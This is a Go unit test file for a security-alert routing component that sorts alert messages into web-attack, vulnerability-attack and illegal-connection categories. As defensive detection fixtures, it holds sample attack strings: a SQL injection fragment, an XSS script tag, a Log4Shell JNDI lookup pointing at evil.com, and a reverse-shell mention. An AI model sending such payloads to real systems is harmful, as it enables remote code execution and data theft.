package biz

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kart-io/aegis/internal/model"
	analyzeropts "github.com/kart-io/aegis/pkg/options/analyzer"
)

func TestRouter_Route(t *testing.T) {
	router := NewRouter(analyzeropts.NewOptions())

	tests := []struct {
		name         string
		alert        *model.Alert
		wantCategory model.Category
		wantFallback bool
	}{
		{
			name:         "SQL注入路由到web_attack",
			alert:        &model.Alert{Message: "union select 1,2,3 from users"},
			wantCategory: model.CategoryWebAttack,
		},
		{
			name:         "XSS路由到web_attack",
			alert:        &model.Alert{Message: "detected <script>alert(1)</script> in request body"},
			wantCategory: model.CategoryWebAttack,
		},
		{
			name:         "Log4Shell路由到vulnerability_attack",
			alert:        &model.Alert{Message: "jndi lookup ${jndi:ldap://evil.com/a} cve-2021-44228"},
			wantCategory: model.CategoryVulnerabilityAttack,
		},
		{
			name:         "反弹shell路由到illegal_connection",
			alert:        &model.Alert{Message: "reverse shell to 1.2.3.4:4444 detected"},
			wantCategory: model.CategoryIllegalConnection,
		},
		{
			name:         "无任何命中时回落到web_attack",
			alert:        &model.Alert{Message: "hello world nothing suspicious"},
			wantCategory: model.CategoryWebAttack,
			wantFallback: true,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			decision := router.Route(tt.alert)
			assert.Equal(t, tt.wantCategory, decision.Category)
			assert.Equal(t, tt.wantFallback, decision.Fallback)
			if !tt.wantFallback {
				assert.Greater(t, decision.Confidence, 0.0)
				assert.NotEmpty(t, decision.Matched)
			}
		})
	}
}

func TestRouter_ScoreProperties(t *testing.T) {
	router := NewRouter(analyzeropts.NewOptions())

	t.Run("无命中分类得分恰为零", func(t *testing.T) {
		decision := router.Route(&model.Alert{Message: "union select password from users"})
		assert.Zero(t, decision.Scores[model.CategoryIllegalConnection])
	})

	t.Run("置信度始终在闭区间[0,1]", func(t *testing.T) {
		messages := []string{
			"union select sqli xss csrf webshell scanner cookie sql injection cross-site path traversal",
			"x",
			"cve-2024-1234 rce exploit",
		}
		for _, msg := range messages {
			decision := router.Route(&model.Alert{Message: msg})
			assert.GreaterOrEqual(t, decision.Confidence, 0.0)
			assert.LessOrEqual(t, decision.Confidence, 1.0)
		}
	})

	t.Run("相同输入路由结果确定", func(t *testing.T) {
		alert := &model.Alert{Message: "cve-2021-44228 exploit attempt"}
		first := router.Route(alert)
		for i := 0; i < 10; i++ {
			again := router.Route(alert)
			assert.Equal(t, first.Category, again.Category)
			assert.Equal(t, first.Confidence, again.Confidence)
			assert.Equal(t, first.Scores, again.Scores)
		}
	})
}

func TestRouter_HintBonus(t *testing.T) {
	router := NewRouter(analyzeropts.NewOptions())

	t.Run("合法分类提示加分", func(t *testing.T) {
		without := router.Route(&model.Alert{Message: "beacon traffic observed"})
		with := router.Route(&model.Alert{
			AlertType: "illegal_connection",
			Message:   "beacon traffic observed",
		})
		require.Equal(t, model.CategoryIllegalConnection, with.Category)
		assert.Greater(t,
			with.Scores[model.CategoryIllegalConnection],
			without.Scores[model.CategoryIllegalConnection],
		)
	})

	t.Run("仅提示无文本命中时不算全零", func(t *testing.T) {
		decision := router.Route(&model.Alert{
			AlertType: "vulnerability_attack",
			Message:   "nothing in the payload itself",
		})
		assert.Equal(t, model.CategoryVulnerabilityAttack, decision.Category)
		assert.False(t, decision.Fallback)
	})

	t.Run("非法提示不生效", func(t *testing.T) {
		decision := router.Route(&model.Alert{
			AlertType: "totally_unknown_type",
			Message:   "nothing suspicious",
		})
		assert.True(t, decision.Fallback)
	})
}

func TestRouter_TieBreak(t *testing.T) {
	opts := analyzeropts.NewOptions()
	router := NewRouter(opts)

	// 得分全为零时按固定优先级选择 web_attack，重复调用结果一致。
	for i := 0; i < 20; i++ {
		decision := router.Route(&model.Alert{Message: "benign"})
		assert.Equal(t, model.CategoryWebAttack, decision.Category)
	}
}
